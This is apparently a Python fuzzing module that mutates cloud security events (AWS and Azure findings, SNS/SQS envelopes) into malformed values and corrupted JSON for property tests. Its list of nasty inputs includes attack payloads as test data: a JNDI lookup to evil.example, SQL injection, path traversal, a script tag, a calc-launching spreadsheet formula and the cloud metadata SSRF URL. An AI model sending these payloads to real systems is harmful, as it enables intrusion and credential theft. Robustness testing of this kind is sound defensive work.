"""Events bent out of shape, in the ways that broken pipes and attackers have: as values, and as the text that carries them."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from copy import deepcopy
from random import Random
from typing import Any

from hypothesis import strategies as st

HUGE = "A" * 100_000
LARGEST = 3 * 2**20
"""Characters of an event: three times what a queue carries, half of what a function may be called with."""


def _nested(levels: int, inner: Any = None) -> Any:
    for level in range(levels):
        inner = {"detail": inner} if level % 2 else [inner]
    return inner


NASTY: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 2**63, 2**64, -(2**70), 10**400, 1e308, float("nan"), float("inf"), float("-inf"), "", " ", "None", "null", "\0", "a\0b", [], {}, [[]], [{}], [None],
    {"": ""}, {"detail": None}, HUGE, [HUGE], "9" * 5_000, "1e999", "\ud800", "\udfff\ud800", "\u202egnp.exe", "\u200b", "\ufeff", "x\r\ny: z", "\x1b[2J", "'; DROP TABLE actions; --",
    "../../etc/passwd", "%2e%2e/", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd",
    "0000-00-00T00:00:00Z", "2026-02-30T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "0001-01-01T00:00:00+14:00", "1969-12-31T23:59:59Z", "-1", "1e20", "2026-11-20", "20261120T031245Z", -62135596800, 253402300800,
    "111122223333", 111122223333, "444455556666", "012345678901", "11112222333", "\u0661\u0661\u0661\u0661\u0662\u0662\u0662\u0662\u0663\u0663\u0663\u0663", "eu-west-1", "us-east-1", "xx-evil-1", "eu-west-1.evil.example",
    "arn:aws:iam::111122223333:root", "arn:aws:iam::444455556666:role/other", "arn:aws-cn:iam::111122223333:user/x", "arn:aws:s3:::a/b", "arn:aws:iam::111122223333:role/aws-service-role/x/AWSServiceRoleForX",
    "/subscriptions/00000000-0000-0000-0000-0000000000a1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm-1", "/subscriptions/x/../y", "/subscriptions/00000000-0000-0000-0000-0000000000a1",
    "//evil.example/subscriptions", "00000000-0000-0000-0000-000000000000", "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", "i-0abc1234def567890", "sg-0abc1234def567890",
    "AWS::EC2::SecurityGroup", "AWS::::Account", "AWS::IAM::Role", "Microsoft.Compute/virtualMachines", "NON_COMPLIANT", "Incident", "Alert", "aws.guardduty", "aws.config", "Notification",
    '{"detail": {}}', '{"a": 1, "a": 2}', "[" * 500, '{"a":' * 200, '"', "{", json.dumps({"Records": [{"body": "{}"}]}), _nested(30), _nested(70), _nested(150),
)  # fmt: skip
"""What stands where something else was expected: wrong types, empty and enormous things, numbers and dates that cannot be, ids that look like another cloud's, JSON within text."""

WRAPS = ("none", "deep", "list", "sns", "sqs", "notification", "body", "findings", "twice", "text")
OPERATIONS = ("replace", "null", "remove", "wrap", "swap", "copy", "rename", "case", "grow", "repeat", "text")
SPOILS = ("none", "duplicate key", "NaN", "Infinity", "cut", "noise", "deep", "second value", "byte order mark")


def paths(value: Any, limit: int = 2_000) -> list[tuple[Any, ...]]:
    """The way to every member of an event, outermost first."""
    found: list[tuple[Any, ...]] = []
    queue: list[tuple[tuple[Any, ...], Any]] = [((), value)]
    while queue and len(found) < limit:
        here, each = queue.pop(0)
        members = each.items() if isinstance(each, dict) else enumerate(each) if isinstance(each, list) else ()
        for key, item in members:
            found.append((*here, key))
            queue.append(((*here, key), item))
    return found


def bent(event: Any, operation: str, at: int, value: Any) -> Any:
    """A copy of the event with one of its members changed; `at` picks which, modulo how many there are."""
    event, value = deepcopy(event), None if operation == "null" else value
    ways = paths(event)
    if not ways:
        return value
    *way, last = ways[at % len(ways)]
    parent = event
    for key in way:
        parent = parent[key]
    old = parent[last]
    other = ways[(at * 7 + 3) % len(ways)]
    if operation == "remove":
        parent.pop(last)
    elif operation == "rename" and isinstance(parent, dict):
        parent[value if isinstance(value, str) else f"{last}s"] = parent.pop(last)
    elif operation == "case" and isinstance(parent, dict):
        parent[str(last).upper()] = value if at % 2 else old
    elif operation == "copy":
        parent[last] = deepcopy(_at(event, other))
    elif operation == "swap" and isinstance(parent, dict):
        parent[last] = str(old) if not isinstance(old, str) else [old]
    elif operation == "grow" and isinstance(old, str):
        parent[last] = (old * min(2_000, LARGEST // max(len(old), 1) + 1))[:LARGEST]
    elif operation == "repeat":
        parent[last] = [deepcopy(old) for _ in range(50)]
    elif operation == "text":
        parent[last] = json.dumps(old)
    elif operation == "wrap":
        parent[last] = {"detail": old, "Records": [old]} if at % 2 else [[old]]
    else:
        parent[last] = value
    return event


def _at(event: Any, way: tuple[Any, ...]) -> Any:
    for key in way:
        event = event[key]
    return event


def weight(event: Any) -> int:
    """About how many characters the event's text has; of what is heavier than LARGEST no more is counted."""
    found, queue = 0, [event]
    while queue and found <= LARGEST:
        each = queue.pop()
        found += len(each) + 2 if isinstance(each, str) else 8
        if isinstance(each, dict):
            queue += [*each, *each.values()]
        elif isinstance(each, list):
            queue += each
    return found


def wrapped(event: Any, how: str) -> Any:
    """The event within what may carry one."""
    text = _dumped(event)
    return {
        "none": event, "deep": _nested(3_000, event), "list": [event, event], "sns": {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": text}}]},
        "sqs": {"Records": [{"messageId": "m-1", "eventSource": "aws:sqs", "body": text, "attributes": {"ApproximateReceiveCount": "1"}}]},
        "notification": {"Type": "Notification", "Message": text}, "body": {"body": text, "headers": {}}, "findings": {"Findings": [event]},
        "twice": {"body": _dumped({"Type": "Notification", "Message": _dumped([event])})}, "text": text,
    }[how]  # fmt: skip


def _dumped(event: Any) -> str:
    try:
        return json.dumps(event)
    except (ValueError, RecursionError):
        return "[" * 3_000


def spoilt(text: str, how: str, at: int) -> str:
    """The text of an event, spoilt as only text can be."""
    place = at % (len(text) + 1)
    if how == "duplicate key" and text.startswith("{"):
        return '{"detail": {"type": "first"}, ' + text[1:]
    if how in ("NaN", "Infinity"):
        return text.replace(": 1", f": {'-' if at % 2 else ''}{how}", 1) if ": 1" in text else f'{{"detail": {how}}}'
    if how == "deep":
        return text[:place] + "[" * 5_000 + text[place:]
    return {
        "cut": text[:place], "noise": text[:place] + chr(at % 0xD7FF) + text[place:], "second value": text + text,
        "byte order mark": "\ufeff" + text,
    }.get(how, text)  # fmt: skip


Mutation = tuple[int, list[tuple[str, int, Any]], str, str, int]
"""Which seed, what is bent in it, what carries it, how its text is spoilt, and where."""

_places = st.integers(0, 1_999)
mutations: st.SearchStrategy[Mutation] = st.tuples(
    _places,
    st.lists(
        st.tuples(
            st.sampled_from(OPERATIONS),
            _places,
            st.sampled_from(NASTY) | st.text(st.characters(exclude_categories=()), max_size=20) | st.integers() | st.floats(),
        ),
        min_size=1, max_size=4,
    ),
    st.sampled_from((*("none",) * 8, *WRAPS)),
    st.sampled_from((*("none",) * 16, *SPOILS)),
    _places,
)  # fmt: skip


def drawn(random: Random, dictionary: tuple[Any, ...] = ()) -> Mutation:
    """A mutation by chance; `dictionary` are further values."""
    values = (*NASTY, *dictionary)
    bends = [
        (random.choice(OPERATIONS), random.randrange(2_000), random.choice(values)) for _ in range(random.randint(1, 4))
    ]
    wrap = random.choice(WRAPS) if random.random() < 0.3 else "none"
    spoil = random.choice(SPOILS) if random.random() < 0.1 else "none"
    return random.randrange(2_000), bends, wrap, spoil, random.randrange(2_000)


def kinds(mutation: Mutation) -> set[str]:
    """In which of the ways that the figure names a mutation bends its event."""
    _, bends, wrap, spoil, _ = mutation
    spoilt_by = {"deep": "deep nesting", "duplicate key": "duplicate key", "NaN": "NaN", "Infinity": "NaN", "none": ""}
    found = {kind for operation, _, value in bends for kind in _bent_by(operation, value)}
    found.add("deep nesting" if wrap == "deep" else "" if wrap == "none" else "another envelope")
    found.add(spoilt_by.get(spoil, "broken text"))
    return found - {""}


def _bent_by(operation: str, value: Any) -> set[str]:
    if operation == "replace":
        return set(_kinds_of(value)) or {"wrong value"}
    known = {"null": "null", "grow": "huge string", "remove": "missing or misspelt", "rename": "missing or misspelt", "case": "missing or misspelt"}  # fmt: skip
    return {known.get(operation, "wrong type")}


def _kinds_of(value: Any) -> Iterator[str]:
    if value is None:
        yield "null"
    elif isinstance(value, float) and not math.isfinite(value):
        yield "NaN"
    elif not isinstance(value, str):
        deep = isinstance(value, list | dict) and len(json.dumps(value)) > 200 and HUGE not in value
        yield "deep nesting" if deep else "huge string" if value == [HUGE] else "wrong type"
    elif len(value) >= 5_000:
        yield "huge string"
    elif not (value.isascii() and value.isprintable()):
        yield "unicode"


def made(seeds: list[Any], mutation: Mutation) -> tuple[Any, str | None]:
    """The event of a mutation as a value, and as text (None where no JSON can spell it)."""
    number, bends, wrap, spoil, at = mutation
    event = seeds[number % len(seeds)]
    for operation, where, value in bends:
        try:
            next_one = bent(event, operation, where, value)
        except RecursionError:  # ours: it is nested more deeply than can be copied
            break
        event = next_one if weight(next_one) <= LARGEST else event
    event = wrapped(event, wrap)
    try:
        return event, spoilt(json.dumps(event), spoil, at)
    except (ValueError, RecursionError):
        return event, None
